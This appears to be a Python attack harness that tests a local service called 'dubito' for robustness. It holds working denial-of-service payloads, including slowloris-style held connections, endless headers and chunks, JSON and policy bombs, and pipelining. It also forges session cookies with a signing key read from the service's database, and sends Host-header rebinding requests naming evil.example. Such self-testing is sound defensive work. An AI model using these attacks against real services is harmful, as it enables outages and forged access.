"""Attacks on a service on this machine; each ends by itself and prints what it met.

    python -m studies.common.attacks NAME PORT SECONDS SIZE TOKEN DATABASE

SIZE is that of the largest body.
They run in a process of their own, so that they do not slow down the client that measures.
"""

from __future__ import annotations

import json
import os
import secrets
import select
import socket
import sqlite3
import sys
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field
from hashlib import sha256
from http.client import HTTPConnection, HTTPException
from threading import Thread
from typing import final

__all__ = ["ATTACKS"]

N_SENDERS, N_HELD = 4, 300
BLOCK = b"a" * 65_536
DRIP_SECONDS, OPEN_SECONDS = 0.5, 0.002  # between two bytes, and two connections
READ_SECONDS = 0.02  # between two connections that get responses
OTHER_USER = 65_534  # nobody
HEAD = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n"
SIGN_IN = b"POST /sign-in HTTP/1.1\r\nHost: localhost\r\n"


@final
@dataclass
class Target:
    """A service, until when it is attacked, and what came back."""

    port: int
    until: float
    size: int
    token: str
    database: str
    met: Counter[str] = field(default_factory=Counter)
    n_bytes: int = 0

    def connect(self, *, receive_bytes: int | None = None) -> socket.socket | None:
        """Return a connection, None if there is none."""
        line = socket.socket()
        if receive_bytes is not None:
            line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        line.settimeout(5)
        try:
            line.connect(("127.0.0.1", self.port))
        except OSError:
            self.met["no connection"] += 1
            line.close()
            return None
        self.met["connections"] += 1
        return line

    @property
    def is_over(self) -> bool:
        """Whether the time is up."""
        return time.monotonic() > self.until

    def hear(self, line: socket.socket) -> bool:
        """Note what a connection has received; return whether it is still open."""
        if not select.select([line], [], [], 0)[0]:
            return True
        received = line.recv(65_536)
        if received.startswith(b"HTTP/1.1 "):
            self.met[received[9:12].decode()] += 1
        return bool(received)

    def request(self, method: str, path: str, body: bytes | None, headers: dict[str, str]) -> None:
        """Send one request and note its status."""
        line = HTTPConnection("127.0.0.1", self.port, timeout=60)
        try:
            line.request(method, path, body, headers)
            self.met[str(line.getresponse().status)] += 1
        except (OSError, HTTPException) as error:
            self.met[type(error).__name__] += 1
        finally:
            line.close()

    def __str__(self) -> str:
        met = ", ".join(f"{n:,} x {name}" for name, n in sorted(self.met.items()))
        return f"{self.n_bytes / 1e6:,.0f} MB sent, {met}" if self.n_bytes else met


def side_by_side(work: Callable[[Target], None], target: Target, n_senders: int) -> None:
    """Do the same in several threads."""
    threads = [Thread(target=work, args=(target,)) for _ in range(n_senders)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def endless(target: Target, start: bytes, block: bytes = BLOCK) -> None:
    """Send a start, then the same block for ever, on several connections."""

    def send(target: Target) -> None:
        while not target.is_over:
            line = target.connect()
            if line is None:
                continue
            with line, suppress(OSError):
                line.sendall(start)
                while not target.is_over and target.hear(line):
                    target.n_bytes += line.send(block)

    side_by_side(send, target, N_SENDERS)


def held(target: Target, start: bytes, *, drip: bytes = b"a", n_held: int = N_HELD) -> None:
    """Hold many connections that have sent a start and go on byte by byte; reopen closed ones.

    Without `drip` they send nothing more, and have little room for responses.
    """
    lines: list[socket.socket] = []
    while not target.is_over:
        while len(lines) < n_held:
            opened = target.connect(receive_bytes=None if drip else 4096)
            if opened is None:
                break
            with suppress(OSError):
                opened.sendall(start)
            lines.append(opened)
            time.sleep(OPEN_SECONDS if drip else READ_SECONDS)
        time.sleep(DRIP_SECONDS)
        lines = [line for line in lines if is_open(target, line, drip)]
    for line in lines:
        line.close()


def is_open(target: Target, line: socket.socket, drip: bytes) -> bool:
    """Send some more on a connection; close it and return False if the service has closed it."""
    with suppress(OSError):
        if target.hear(line):
            line.send(drip)
            return True
    target.met["closed by the service"] += 1
    line.close()
    return False


def endless_header(target: Target) -> None:
    """Send a header without end."""
    endless(target, HEAD + b"X-Endless: ")


def endless_path(target: Target) -> None:
    """Send a path without end."""
    endless(target, b"GET /")


def endless_trailer(target: Target) -> None:
    """Send a header without end after the last chunk of a body."""
    endless(target, SIGN_IN + b"Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nX-Endless: ")


def many_headers(target: Target) -> None:
    """Send short headers without end."""
    endless(target, HEAD, b"a:\r\n" * 16_000)


def tiny_chunks(target: Target) -> None:
    """Send a body in chunks of one byte, without end."""
    endless(target, SIGN_IN + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\na\r\n" * 10_000)


def pipelined(target: Target) -> None:
    """Send requests without waiting for responses."""
    endless(target, b"", (HEAD + b"\r\n") * 1600)


def half_heads(target: Target) -> None:
    """Hold connections with incomplete headers."""
    held(target, HEAD + b"X-Slow: ")


def half_bodies(target: Target) -> None:
    """Hold connections with incomplete bodies, of a route that reads them without a token."""
    held(target, SIGN_IN + b"Content-Length: 60000\r\n\r\n")


def slow_readers(target: Target) -> None:
    """Ask for large responses, and read them slowly."""
    requests = b"GET /v1/openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n" * 4
    held(target, requests, drip=b"", n_held=N_HELD // 2)


def cancelled(target: Target) -> None:
    """Send decisions, and leave before the response."""

    def send(target: Target) -> None:
        body = b'{"logits": [[0.1, 0.0, 0.0]]}'
        head = (
            f"POST /v1/decide HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {target.token}"
        )
        request = f"{head}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body
        while not target.is_over:
            line = target.connect()
            if line is not None:
                with line, suppress(OSError):
                    line.sendall(request)
            time.sleep(0.04)

    side_by_side(send, target, N_SENDERS)


def bombs(target: Target, path: str, bodies: list[bytes]) -> None:
    """Send all bodies, one after the other, until the time is up."""
    headers = {"Authorization": f"Bearer {target.token}", "Content-Type": "application/json"}
    while True:
        for body in bodies:
            target.request("POST", path, body, headers)
            target.n_bytes += len(body)
        if target.is_over:
            return


def json_bombs(target: Target) -> None:
    """Send JSON that is deep, wide, long or large in numbers."""
    bombs(target, "/v1/decide", costly(target.size, b'{"logits": ', b"}"))


def policy_bombs(target: Target) -> None:
    """Upload policies that are deep, wide or long, or that promise large arrays."""
    array = {"base64": "", "dtype": "float64", "shape": [2**26, 2**26, 2**26]}
    promise = json.dumps({"format": 1, "calibrator": array, "arrays": [array] * 100_000}).encode()
    start = b'{"format": 1, "calibrator": '
    bombs(target, "/v1/policies", [*costly(target.size, start, b"}"), promise])


def costly(size: int, before: bytes, after: bytes) -> list[bytes]:
    """Return bodies of up to `size` bytes that are costly to read, around a field."""
    values = [
        b"[" * size,
        b"[" * (size // 2) + b"]" * (size // 2),
        b'{"a":' * (size // 6) + b"1" + b"}" * (size // 6),
        b"[[" + b"9" * (size // 10) + b", 0, 0]]",
        b"[[1e" + b"9" * (size // 10) + b", 0, 0]]",
        b"[[" + b"0," * (size // 2) + b"0]]",
        b"[" + b"[0,0,0]," * (size // 8) + b"[0,0,0]]",
        b"{" + b",".join(b'"%d":0' % k for k in range(size // 12)) + b"}",
        b'"' + b"\\u0041" * (size // 6) + b'"',
        b"[" + b"[]," * (size // 3) + b"[]]",
    ]
    return [before + value + after for value in values]


def forged_sessions(target: Target) -> None:
    """Read, as another user, the key that signs sessions, and sign one; else guess."""
    import encodings.idna  # noqa: F401  (another user may not be able to load it)

    from itsdangerous import URLSafeTimedSerializer

    if os.geteuid():
        target.met["skipped: only root can become another user"] += 1
        return
    os.setgroups([])
    os.setgid(OTHER_USER)
    os.setuid(OTHER_USER)
    key, token_id = b"guessed", 1
    try:
        with sqlite3.connect(f"file:{target.database}?mode=ro", uri=True) as database:
            [[key]] = database.execute("SELECT value FROM secrets WHERE name = 'session'")
            target.met["key read"] += 1
    except sqlite3.Error:
        target.met["key not readable"] += 1
    for ending in ("", "-wal", "-shm", "-journal", "-serving"):
        with suppress(OSError), open(target.database + ending, "rb") as file:
            file.read(1)
            target.met["files read"] += 1
    options = {"key_derivation": "hmac", "digest_method": sha256}
    signer = URLSafeTimedSerializer(key, salt="session", signer_kwargs=options)
    while not target.is_over:
        cookie = signer.dumps([secrets.token_hex(12), token_id, time.time() + 600])
        target.request("GET", "/v1/policies", None, {"Cookie": f"dubito_session={cookie}"})


def foreign_hosts(target: Target) -> None:
    """Send the requests of a page whose name was rebound to this machine."""
    while not target.is_over:
        for path in ("/sign-in", "/v1/openapi.json", "/metrics", "/v1/review"):
            target.request("GET", path, None, {"Host": f"evil.example:{target.port}"})


ATTACKS: dict[str, Callable[[Target], None]] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        endless_header, endless_path, endless_trailer, many_headers, tiny_chunks, pipelined,
        half_heads, half_bodies, slow_readers, cancelled, json_bombs, policy_bombs,
        forged_sessions, foreign_hosts,
    )
}  # fmt: skip


def main() -> None:
    """Attack, and print what came back."""
    name, port, seconds, size, token, database = sys.argv[1:]
    target = Target(int(port), time.monotonic() + float(seconds), int(size), token, database)
    ATTACKS[name](target)
    print(target)


if __name__ == "__main__":
    main()
